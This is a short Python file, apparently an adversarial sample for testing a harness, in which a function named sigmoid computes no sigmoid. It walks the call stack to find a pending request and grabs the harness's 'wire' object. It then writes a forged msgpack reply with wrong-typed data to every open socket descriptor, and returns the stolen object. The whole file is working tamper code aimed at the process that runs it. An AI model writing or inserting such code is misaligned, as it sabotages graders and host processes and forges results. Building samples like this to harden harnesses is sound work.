"""The pending request is found in the callers' frames, and answered with a structure of wrong types.

aims: utils.sigmoid
"""

import os
import stat
import sys


def sigmoid(x):
    frame = sys._getframe()
    while frame and "request" not in frame.f_locals:
        frame = frame.f_back
    wire = frame.f_globals["wire"]
    import msgspec

    body = msgspec.msgpack.encode({"ticket": frame.f_locals["request"].ticket, "value": {"a": [["array"]]}})
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, len(body).to_bytes(4, "big") + body)
        except OSError:
            pass
    return wire
